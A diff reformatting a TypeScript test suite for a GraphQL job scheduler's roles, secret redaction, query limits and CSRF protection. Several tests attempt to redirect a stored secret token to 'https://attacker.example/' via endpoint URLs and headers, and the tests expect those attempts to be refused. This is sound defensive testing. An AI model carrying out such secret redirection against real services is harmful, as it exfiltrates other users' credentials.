@@ -83,47 +83,121 @@ describe('roles', () => {
   let alertId = '';
   const setup = async () => {
     if (endpointId) return;
-    const ep = await gql(keys.OPERATOR, 'mutation { registerEndpoint(input: { name: "role.target", kind: HANDLER, handlerName: "h" }) { id } }');
+    const ep = await gql(
+      keys.OPERATOR,
+      'mutation { registerEndpoint(input: { name: "role.target", kind: HANDLER, handlerName: "h" }) { id } }',
+    );
     endpointId = ep.body.data.registerEndpoint.id;
-    const job = await gql(keys.OPERATOR, 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: IMMEDIATE }) { job { id } } }', { e: endpointId });
+    const job = await gql(keys.OPERATOR, 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: IMMEDIATE }) { job { id } } }', {
+      e: endpointId,
+    });
     ownJobId = job.body.data.createJob.job.id;
     executionId = (await t.query('select id from executions where job_id = $1', [ownJobId])).rows[0].id;
-    const rule = await gql(keys.ADMIN, 'mutation { createAlertRule(input: { name: "role.rule", condition: EXECUTION_FAILED, email: true, emailTo: ["oncall@role.test"] }) { id } }');
+    const rule = await gql(
+      keys.ADMIN,
+      'mutation { createAlertRule(input: { name: "role.rule", condition: EXECUTION_FAILED, email: true, emailTo: ["oncall@role.test"] }) { id } }',
+    );
     ruleId = rule.body.data.createAlertRule.id;
     // One alert of that rule, as the evaluator writes it (no worker runs here).
-    alertId = (await t.query(
-      `insert into alert_notifications (workspace_id, rule_id, condition, kind, subject_type, subject_key, subject_id, window_start, first_seen_at, last_seen_at, occurrences, summary)
+    alertId = (
+      await t.query(
+        `insert into alert_notifications (workspace_id, rule_id, condition, kind, subject_type, subject_key, subject_id, window_start, first_seen_at, last_seen_at, occurrences, summary)
        select workspace_id, $1::uuid, 'EXECUTION_FAILED', 'FIRING', 'JOB', 'job:' || $2::text, $2::uuid, now(), now(), now(), 1, 'A failed' from jobs where id = $2::uuid returning id`,
-      [ruleId, ownJobId],
-    )).rows[0].id;
+        [ruleId, ownJobId],
+      )
+    ).rows[0].id;
   };
 
   type Ids = { endpointId: string; jobId: string; executionId: string; ruleId: string; alertId: string };
   const matrix: [string, string, (ids: Ids) => Record<string, unknown>, Record<string, 'ok' | 'FORBIDDEN'>][] = [
-    ['createPayloadSpec', 'mutation { createPayloadSpec(input: { name: "spec.NAME", jsonSchema: true }) { id } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' }],
-    ['setConfig', 'mutation { setConfig(input: { name: "cfg.NAME", entries: [] }) { id } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' }],
-    ['registerEndpoint', 'mutation { registerEndpoint(input: { name: "ep.NAME", kind: HANDLER, handlerName: "h" }) { id } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' }],
-    ['createJob', 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: DELAYED, runAt: "2099-01-01T00:00:00Z" }) { created } }', (i) => ({ e: i.endpointId }), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' }],
-    ['triggerJob', 'mutation ($j: ID!) { triggerJob(input: { id: $j, force: true }) { created } }', (i) => ({ j: i.jobId }), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' }],
-    ['createApiKey', 'mutation { createApiKey(input: { name: "k", role: VIEWER }) { key } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
+    [
+      'createPayloadSpec',
+      'mutation { createPayloadSpec(input: { name: "spec.NAME", jsonSchema: true }) { id } }',
+      () => ({}),
+      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'setConfig',
+      'mutation { setConfig(input: { name: "cfg.NAME", entries: [] }) { id } }',
+      () => ({}),
+      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'registerEndpoint',
+      'mutation { registerEndpoint(input: { name: "ep.NAME", kind: HANDLER, handlerName: "h" }) { id } }',
+      () => ({}),
+      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'createJob',
+      'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: DELAYED, runAt: "2099-01-01T00:00:00Z" }) { created } }',
+      (i) => ({ e: i.endpointId }),
+      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'triggerJob',
+      'mutation ($j: ID!) { triggerJob(input: { id: $j, force: true }) { created } }',
+      (i) => ({ j: i.jobId }),
+      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'createApiKey',
+      'mutation { createApiKey(input: { name: "k", role: VIEWER }) { key } }',
+      () => ({}),
+      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
+    ],
     ['apiKeys', '{ apiKeys { id } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
     ['auditLog', '{ auditLog { entries { id } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
-    ['createWorkspace', 'mutation { createWorkspace(input: { slug: "ws-NAME", name: "x" }) { workspace { id } } }', () => ({}), { ADMIN: 'FORBIDDEN', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
+    [
+      'createWorkspace',
+      'mutation { createWorkspace(input: { slug: "ws-NAME", name: "x" }) { workspace { id } } }',
+      () => ({}),
+      { ADMIN: 'FORBIDDEN', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
+    ],
     ['jobs', '{ jobs { nodes { id } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' }],
     // Alert rules hold email addresses and webhook destinations: ADMIN only, as API keys. What they raised is every role's.
-    ['alertRules', '{ alertRules { nodes { id emailTo webhookEndpointId } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
-    ['alertRule', 'query ($id: ID!) { alertRule(id: $id) { id emailTo } }', (i) => ({ id: i.ruleId }), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
+    [
+      'alertRules',
+      '{ alertRules { nodes { id emailTo webhookEndpointId } } }',
+      () => ({}),
+      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'alertRule',
+      'query ($id: ID!) { alertRule(id: $id) { id emailTo } }',
+      (i) => ({ id: i.ruleId }),
+      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
+    ],
     ['alerts', '{ alerts { nodes { id ruleId ruleName summary detail } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' }],
-    ['alert', 'query ($id: ID!) { alert(id: $id) { id ruleName } }', (i) => ({ id: i.alertId }), { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' }],
-    ['alerts.rule', '{ alerts { nodes { id rule { emailTo } } } }', () => ({}), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
-    ['alert.rule', 'query ($id: ID!) { alert(id: $id) { rule { name emailTo } } }', (i) => ({ id: i.alertId }), { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' }],
+    [
+      'alert',
+      'query ($id: ID!) { alert(id: $id) { id ruleName } }',
+      (i) => ({ id: i.alertId }),
+      { ADMIN: 'ok', OPERATOR: 'ok', VIEWER: 'ok' },
+    ],
+    [
+      'alerts.rule',
+      '{ alerts { nodes { id rule { emailTo } } } }',
+      () => ({}),
+      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
+    ],
+    [
+      'alert.rule',
+      'query ($id: ID!) { alert(id: $id) { rule { name emailTo } } }',
+      (i) => ({ id: i.alertId }),
+      { ADMIN: 'ok', OPERATOR: 'FORBIDDEN', VIEWER: 'FORBIDDEN' },
+    ],
   ];
   let n = 0;
   for (const [name, query, vars, expected] of matrix) {
     for (const role of ['ADMIN', 'OPERATOR', 'VIEWER'] as const) {
       it(`${name} as ${role}: ${expected[role]}`, async () => {
         await setup();
-        const res = await gql(keys[role], query.replace('NAME', `${role.toLowerCase()}-${n++}`), vars({ endpointId, jobId: ownJobId, executionId, ruleId, alertId }));
+        const res = await gql(
+          keys[role],
+          query.replace('NAME', `${role.toLowerCase()}-${n++}`),
+          vars({ endpointId, jobId: ownJobId, executionId, ruleId, alertId }),
+        );
         if (expected[role] === 'ok') expect(res.body.errors).toBeUndefined();
         else expect(res.body.errors![0]!.extensions.code).toBe('FORBIDDEN');
         // A refused read leaks nothing of what it refused (here: a rule's recipients).
@@ -137,10 +211,17 @@ describe('roles', () => {
     const update = 'mutation ($j: ID!) { updateJob(input: { id: $j, name: "renamed" }) { name } }';
     const other = await gql(keys.OPERATOR2, update, { j: ownJobId });
     expect(other.body.errors![0]!.extensions.code).toBe('FORBIDDEN');
-    expect((await gql(keys.OPERATOR2, 'mutation ($j: ID!) { cancelJob(id: $j) { cancelledExecutions } }', { j: ownJobId })).body.errors![0]!.extensions.code).toBe('FORBIDDEN');
+    expect(
+      (await gql(keys.OPERATOR2, 'mutation ($j: ID!) { cancelJob(id: $j) { cancelledExecutions } }', { j: ownJobId })).body.errors![0]!
+        .extensions.code,
+    ).toBe('FORBIDDEN');
     expect((await gql(keys.OPERATOR, update, { j: ownJobId })).body.data.updateJob.name).toBe('renamed');
-    expect((await gql(keys.ADMIN, 'mutation ($j: ID!) { pauseJob(id: $j) { status } }', { j: ownJobId })).body.data.pauseJob.status).toBe('PAUSED');
-    const audit = await gql(keys.ADMIN, 'query ($j: String) { auditLog(targetId: $j) { entries { action resultCode actorKeyId } } }', { j: ownJobId });
+    expect((await gql(keys.ADMIN, 'mutation ($j: ID!) { pauseJob(id: $j) { status } }', { j: ownJobId })).body.data.pauseJob.status).toBe(
+      'PAUSED',
+    );
+    const audit = await gql(keys.ADMIN, 'query ($j: String) { auditLog(targetId: $j) { entries { action resultCode actorKeyId } } }', {
+      j: ownJobId,
+    });
     const entries = audit.body.data.auditLog.entries as { action: string; resultCode: string }[];
     expect(entries.map((e) => `${e.action}:${e.resultCode}`)).toEqual(
       expect.arrayContaining(['job.update:FORBIDDEN', 'job.cancel:FORBIDDEN', 'job.update:OK', 'job.pause:OK']),
@@ -148,50 +229,106 @@ describe('roles', () => {
     // Runs too: an OPERATOR cancels only the runs its key started.
     const run = await gql(keys.OPERATOR, 'mutation { triggerRun(input: { name: "op.scan", force: true }) { run { id } } }');
     const runId = run.body.data.triggerRun.run.id;
-    expect((await gql(keys.OPERATOR2, 'mutation ($id: ID!) { cancelRun(id: $id) { id } }', { id: runId })).body.errors![0]!.extensions.code).toBe('FORBIDDEN');
-    expect((await gql(keys.OPERATOR, 'mutation ($id: ID!) { cancelRun(id: $id) { status } }', { id: runId })).body.data.cancelRun.status).toBe('PAUSED');
+    expect(
+      (await gql(keys.OPERATOR2, 'mutation ($id: ID!) { cancelRun(id: $id) { id } }', { id: runId })).body.errors![0]!.extensions.code,
+    ).toBe('FORBIDDEN');
+    expect(
+      (await gql(keys.OPERATOR, 'mutation ($id: ID!) { cancelRun(id: $id) { status } }', { id: runId })).body.data.cancelRun.status,
+    ).toBe('PAUSED');
     // The job records the key that created it.
     const { rows } = await t.query('select created_by_key_id from jobs where id = $1', [ownJobId]);
     expect(rows[0].created_by_key_id).toBe((await t.service.authenticate(keys.OPERATOR)).keyId);
   });
 
   it("keeps OPERATOR keys off others' configs and payload specs, and off secrets they did not set", async () => {
-    const secretCfg = await gql(keys.ADMIN, 'mutation { setConfig(input: { name: "admin.secrets", entries: [{ key: "token", value: "t0p-s3cret", secret: true }] }) { id } }');
-    const plainCfg = await gql(keys.ADMIN, 'mutation { setConfig(input: { name: "admin.plain", entries: [{ key: "host", value: "example.com" }] }) { id } }');
+    const secretCfg = await gql(
+      keys.ADMIN,
+      'mutation { setConfig(input: { name: "admin.secrets", entries: [{ key: "token", value: "t0p-s3cret", secret: true }] }) { id } }',
+    );
+    const plainCfg = await gql(
+      keys.ADMIN,
+      'mutation { setConfig(input: { name: "admin.plain", entries: [{ key: "host", value: "example.com" }] }) { id } }',
+    );
     const spec = await gql(keys.ADMIN, 'mutation { createPayloadSpec(input: { name: "admin.spec", jsonSchema: true }) { id } }');
     const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
     expect(code(await gql(keys.OPERATOR2, 'mutation { setConfig(input: { name: "admin.plain", entries: [] }) { id } }'))).toBe('FORBIDDEN');
-    expect(code(await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updatePayloadSpec(input: { id: $id, jsonSchema: false }) { id } }', { id: spec.body.data.createPayloadSpec.id }))).toBe('FORBIDDEN');
+    expect(
+      code(
+        await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updatePayloadSpec(input: { id: $id, jsonSchema: false }) { id } }', {
+          id: spec.body.data.createPayloadSpec.id,
+        }),
+      ),
+    ).toBe('FORBIDDEN');
     // Pointing an endpoint at someone else's secrets would send them wherever its url says.
-    const steal = await gql(keys.OPERATOR2, 'mutation ($c: ID) { registerEndpoint(input: { name: "steal.it", kind: HTTP, url: "https://attacker.example/", headers: { x: "{{config.token}}" }, configId: $c }) { id } }', {
-      c: secretCfg.body.data.setConfig.id,
-    });
+    const steal = await gql(
+      keys.OPERATOR2,
+      'mutation ($c: ID) { registerEndpoint(input: { name: "steal.it", kind: HTTP, url: "https://attacker.example/", headers: { x: "{{config.token}}" }, configId: $c }) { id } }',
+      {
+        c: secretCfg.body.data.setConfig.id,
+      },
+    );
     expect(code(steal)).toBe('FORBIDDEN');
-    const fine = await gql(keys.OPERATOR2, 'mutation ($c: ID) { registerEndpoint(input: { name: "uses.plain", kind: HTTP, url: "https://{{config.host}}/", configId: $c }) { id } }', {
-      c: plainCfg.body.data.setConfig.id,
-    });
+    const fine = await gql(
+      keys.OPERATOR2,
+      'mutation ($c: ID) { registerEndpoint(input: { name: "uses.plain", kind: HTTP, url: "https://{{config.host}}/", configId: $c }) { id } }',
+      {
+        c: plainCfg.body.data.setConfig.id,
+      },
+    );
     expect(fine.body.errors).toBeUndefined();
-    expect(code(await gql(keys.OPERATOR2, 'mutation { registerEndpoint(input: { name: "fake.reaper", kind: HANDLER, handlerName: "jobgate.reaper" }) { id } }'))).toBe('VALIDATION_FAILED');
+    expect(
+      code(
+        await gql(
+          keys.OPERATOR2,
+          'mutation { registerEndpoint(input: { name: "fake.reaper", kind: HANDLER, handlerName: "jobgate.reaper" }) { id } }',
+        ),
+      ),
+    ).toBe('VALIDATION_FAILED');
   });
 
   it("keeps an OPERATOR from re-aiming its own endpoint once an ADMIN wired another key's secrets into it", async () => {
     const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
-    const cfg = await gql(keys.ADMIN, 'mutation { setConfig(input: { name: "admin.wired", entries: [{ key: "token", value: "wired-s3cret-value", secret: true }] }) { id } }');
-    const ep = await gql(keys.OPERATOR2, 'mutation { registerEndpoint(input: { name: "op.wired", kind: HTTP, url: "https://partner.example/hook" }) { id } }');
+    const cfg = await gql(
+      keys.ADMIN,
+      'mutation { setConfig(input: { name: "admin.wired", entries: [{ key: "token", value: "wired-s3cret-value", secret: true }] }) { id } }',
+    );
+    const ep = await gql(
+      keys.OPERATOR2,
+      'mutation { registerEndpoint(input: { name: "op.wired", kind: HTTP, url: "https://partner.example/hook" }) { id } }',
+    );
     const id = ep.body.data.registerEndpoint.id as string;
     // The ADMIN gives the operator's endpoint the secret it needs, for the url it was registered with.
-    const wire = await gql(keys.ADMIN, 'mutation ($id: ID!, $c: ID) { updateEndpoint(input: { id: $id, configId: $c, headers: { authorization: "Bearer {{config.token}}" } }) { id } }', {
-      id,
-      c: cfg.body.data.setConfig.id,
-    });
+    const wire = await gql(
+      keys.ADMIN,
+      'mutation ($id: ID!, $c: ID) { updateEndpoint(input: { id: $id, configId: $c, headers: { authorization: "Bearer {{config.token}}" } }) { id } }',
+      {
+        id,
+        c: cfg.body.data.setConfig.id,
+      },
+    );
     expect(wire.body.errors).toBeUndefined();
     // Sending that secret somewhere else is as good as reading it.
-    expect(code(await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, url: "https://attacker.example/" }) { id } }', { id }))).toBe('FORBIDDEN');
-    expect(code(await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, headers: { x: "{{config.token}}" } }) { id } }', { id }))).toBe('FORBIDDEN');
+    expect(
+      code(
+        await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, url: "https://attacker.example/" }) { id } }', {
+          id,
+        }),
+      ),
+    ).toBe('FORBIDDEN');
+    expect(
+      code(
+        await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, headers: { x: "{{config.token}}" } }) { id } }', {
+          id,
+        }),
+      ),
+    ).toBe('FORBIDDEN');
     const { rows } = await t.query('select url, headers from endpoints where id = $1', [id]);
     expect(rows[0]).toEqual({ url: 'https://partner.example/hook', headers: { authorization: 'Bearer {{config.token}}' } });
     // What does not change where or what it sends stays the operator's to change.
-    expect((await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, description: "mine" }) { description } }', { id })).body.data.updateEndpoint.description).toBe('mine');
+    expect(
+      (await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updateEndpoint(input: { id: $id, description: "mine" }) { description } }', { id }))
+        .body.data.updateEndpoint.description,
+    ).toBe('mine');
   });
 
   it('lets only an installation admin revoke an installation-admin key', async () => {
@@ -207,7 +344,10 @@ describe('roles', () => {
 
   it('lets an installation admin create a workspace, which gets its own admin key and reaper', async () => {
     const root = (await t.service.bootstrapKey('default', 'ADMIN', 'installation admin', true)).key;
-    const res = await gql(root, 'mutation { createWorkspace(input: { slug: "acme", name: "Acme" }) { workspace { slug } adminKey { key } } }');
+    const res = await gql(
+      root,
+      'mutation { createWorkspace(input: { slug: "acme", name: "Acme" }) { workspace { slug } adminKey { key } } }',
+    );
     expect(res.body.data.createWorkspace.workspace.slug).toBe('acme');
     const acmeKey = res.body.data.createWorkspace.adminKey.key as string;
     expect((await gql(acmeKey, '{ workspace { slug } }')).body.data.workspace.slug).toBe('acme');
@@ -220,7 +360,10 @@ describe('roles', () => {
 describe('installation details', () => {
   it("shows a workspace's keys neither where workers run nor handler error text, in triggerHandler's answer and its CONFLICT either", async () => {
     const worker = 'build-host-7.internal:4242:a1b2c3';
-    await t.query(`insert into workers (id, host, pid, stale_ms, handlers) values ($1, 'build-host-7.internal', 4242, 600000, '[{"kind":"INTERVAL","name":"nightly.sweep","everyMs":60000}]')`, [worker]);
+    await t.query(
+      `insert into workers (id, host, pid, stale_ms, handlers) values ($1, 'build-host-7.internal', 4242, 600000, '[{"kind":"INTERVAL","name":"nightly.sweep","everyMs":60000}]')`,
+      [worker],
+    );
     await t.query(
       `insert into interval_handlers (name, every_ms, next_due_at, last_status, last_cause, last_error, last_started_at, last_finished_at)
        values ('nightly.sweep', 60000, now() + interval '1 hour', 'ERROR', 'HANDLER', 'boom at row 17 of acme.invoices', now(), now())`,
@@ -233,7 +376,10 @@ describe('installation details', () => {
     const listed = await gql(keys.ADMIN, `{ handlers(name: "nightly.sweep") { ${fields} } }`);
     expect(listed.body.data.handlers).toHaveLength(1);
     expect(leaks(listed.body)).toEqual([]);
-    const triggered = await gql(keys.ADMIN, `mutation { triggerHandler(input: { name: "nightly.sweep" }) { outcome handler { ${fields} } } }`);
+    const triggered = await gql(
+      keys.ADMIN,
+      `mutation { triggerHandler(input: { name: "nightly.sweep" }) { outcome handler { ${fields} } } }`,
+    );
     expect(triggered.body.data.triggerHandler.outcome).toBe('DUE_NOW');
     expect(leaks(triggered.body)).toEqual([]);
     // While it runs, the refusal names the worker as the catalogue does.
@@ -244,15 +390,23 @@ describe('installation details', () => {
     expect(refused.body.errors![0]!.extensions.runningOn).toBe(listed.body.data.handlers[0].workers[0].id);
     // An installation admin sees the machines.
     const root = (await t.service.bootstrapKey('default', 'ADMIN', 'installation admin for details', true)).key;
-    const full = await gql(root, `mutation { triggerHandler(input: { name: "nightly.sweep", force: true }) { outcome handler { ${fields} } } }`);
+    const full = await gql(
+      root,
+      `mutation { triggerHandler(input: { name: "nightly.sweep", force: true }) { outcome handler { ${fields} } } }`,
+    );
     expect(full.body.data.triggerHandler.handler.workers[0]).toEqual({ id: worker, host: 'build-host-7.internal', pid: 4242 });
     expect(full.body.data.triggerHandler.handler.lastOutcome.message).toBe('boom at row 17 of acme.invoices');
     await t.query(`delete from workers where id = $1`, [worker]);
   });
 
   it("names an attempt's worker to a workspace's keys by its digest, as the catalogue does, not by host and pid", async () => {
-    const ep = await gql(keys.OPERATOR, 'mutation { registerEndpoint(input: { name: "attempts.where", kind: HANDLER, handlerName: "h" }) { id } }');
-    const job = await gql(keys.OPERATOR, 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: IMMEDIATE }) { job { id } } }', { e: ep.body.data.registerEndpoint.id });
+    const ep = await gql(
+      keys.OPERATOR,
+      'mutation { registerEndpoint(input: { name: "attempts.where", kind: HANDLER, handlerName: "h" }) { id } }',
+    );
+    const job = await gql(keys.OPERATOR, 'mutation ($e: ID) { createJob(input: { endpointId: $e, kind: IMMEDIATE }) { job { id } } }', {
+      e: ep.body.data.registerEndpoint.id,
+    });
     const { rows } = await t.query('select id, workspace_id from executions where job_id = $1', [job.body.data.createJob.job.id]);
     const worker = 'payments-db-host.internal:31337:d4e5f6';
     await t.query(
@@ -273,14 +427,27 @@ describe('installation details', () => {
 
 describe('secrets', () => {
   it('never returns, logs or audits a signing secret or a secret config value, and stores them encrypted', async () => {
-    await gql(keys.ADMIN, `mutation ($s: String) { registerEndpoint(input: { name: "secret.hook", kind: HTTP, url: "https://example.com/h", signingSecret: $s }) { id hasSigningSecret } }`, {
-      s: SIGNING_SECRET,
-    });
-    await gql(keys.ADMIN, `mutation ($v: String!) { setConfig(input: { name: "secret.cfg", entries: [{ key: "token", value: $v, secret: true }] }) { entries { value } } }`, {
-      v: CONFIG_SECRET,
-    });
+    await gql(
+      keys.ADMIN,
+      `mutation ($s: String) { registerEndpoint(input: { name: "secret.hook", kind: HTTP, url: "https://example.com/h", signingSecret: $s }) { id hasSigningSecret } }`,
+      {
+        s: SIGNING_SECRET,
+      },
+    );
+    await gql(
+      keys.ADMIN,
+      `mutation ($v: String!) { setConfig(input: { name: "secret.cfg", entries: [{ key: "token", value: $v, secret: true }] }) { entries { value } } }`,
+      {
+        v: CONFIG_SECRET,
+      },
+    );
     const answers = JSON.stringify([
-      (await gql(keys.ADMIN, '{ endpoints { nodes { url hasSigningSecret config { entries { key value } } } } configs { nodes { entries { key value secret } } } }')).body,
+      (
+        await gql(
+          keys.ADMIN,
+          '{ endpoints { nodes { url hasSigningSecret config { entries { key value } } } } configs { nodes { entries { key value secret } } } }',
+        )
+      ).body,
       (await gql(keys.ADMIN, '{ auditLog(first: 200) { entries { input } } }')).body,
     ]);
     const tables = ['endpoints', 'configs', 'audit_log'];
@@ -299,7 +466,9 @@ describe('secrets', () => {
     // A library caller passing a form's "true" or 1: refused, and the refusal is audited.
     for (const secret of ['true', 1]) {
       const value = `form-secret-${String(secret)}-7c6b5a`;
-      await expect(t.service.setConfig(admin, { name: 'form.cfg', entries: [{ key: 'token', value, secret: secret as never }] })).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
+      await expect(
+        t.service.setConfig(admin, { name: 'form.cfg', entries: [{ key: 'token', value, secret: secret as never }] }),
+      ).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
       const { rows } = await t.query(`select input::text as input from audit_log where action = 'config.set' order by id desc limit 1`);
       expect(rows[0].input).not.toContain(value);
       expect(rows[0].input).toContain('[redacted]');
@@ -309,7 +478,10 @@ describe('secrets', () => {
 
 describe('limits', () => {
   it('passes the full introspection query that code generators send', async () => {
-    const res = await gql(keys.VIEWER, getIntrospectionQuery({ descriptions: true, specifiedByUrl: true, directiveIsRepeatable: true, inputValueDeprecation: true }));
+    const res = await gql(
+      keys.VIEWER,
+      getIntrospectionQuery({ descriptions: true, specifiedByUrl: true, directiveIsRepeatable: true, inputValueDeprecation: true }),
+    );
     expect(res.body.errors).toBeUndefined();
     expect(res.body.data.__schema.queryType.name).toBe('Query');
   });
@@ -361,7 +533,11 @@ describe('limits', () => {
     const other = await fetch(url, {
       method: 'POST',
       headers: { 'content-type': 'application/json', authorization: `Bearer ${keys.VIEWER}` },
-      body: JSON.stringify({ query: `query Small { workspace { slug } } query Big ($n: Int) { ${nested('$n', '$n')} }`, operationName: 'Small', variables: { n: 100 } }),
+      body: JSON.stringify({
+        query: `query Small { workspace { slug } } query Big ($n: Int) { ${nested('$n', '$n')} }`,
+        operationName: 'Small',
+        variables: { n: 100 },
+      }),
     });
     expect(((await other.json()) as { data: { workspace: { slug: string } } }).data.workspace.slug).toBe('default');
   });
@@ -378,7 +554,10 @@ describe('limits', () => {
     for (let i = 0; i < 20; i++) typeRef = `ofType { ${typeRef} }`;
     const res = await gql(keys.VIEWER, `{ __schema { types { fields { type { ${typeRef} } } } } }`);
     expect(res.body.errors?.[0]?.message).toMatch(/Introspection is limited to a depth/);
-    const sneaky = await gql(keys.VIEWER, `query { ...__schema } fragment __schema on Query { __schema { types { fields { type { ${typeRef} } } } } }`);
+    const sneaky = await gql(
+      keys.VIEWER,
+      `query { ...__schema } fragment __schema on Query { __schema { types { fields { type { ${typeRef} } } } } }`,
+    );
     expect(sneaky.body.errors?.[0]?.message).toMatch(/depth|Introspection/i);
     // The same fragment shallow first, deep second: its depth is not cached from the first use.
     let deep = 'name';
@@ -428,7 +607,13 @@ describe('limits', () => {
     try {
       const at = `http://127.0.0.1:${(closed.server.address() as AddressInfo).port}/graphql`;
       const ask = async (query: string) =>
-        (await (await fetch(at, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${keys.VIEWER}` }, body: JSON.stringify({ query }) })).json()) as {
+        (await (
+          await fetch(at, {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', authorization: `Bearer ${keys.VIEWER}` },
+            body: JSON.stringify({ query }),
+          })
+        ).json()) as {
           data?: any;
           errors?: { message: string }[];
         };
@@ -445,7 +630,11 @@ describe('limits', () => {
   });
 
   it('refuses a simple (non-preflighted) browser request without a custom header (CSRF)', async () => {
-    const res = await fetch(url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ query: '{ workspace { slug } }' }) });
+    const res = await fetch(url, {
+      method: 'POST',
+      headers: { 'content-type': 'text/plain' },
+      body: JSON.stringify({ query: '{ workspace { slug } }' }),
+    });
     expect(res.status).toBe(403);
   });
 });
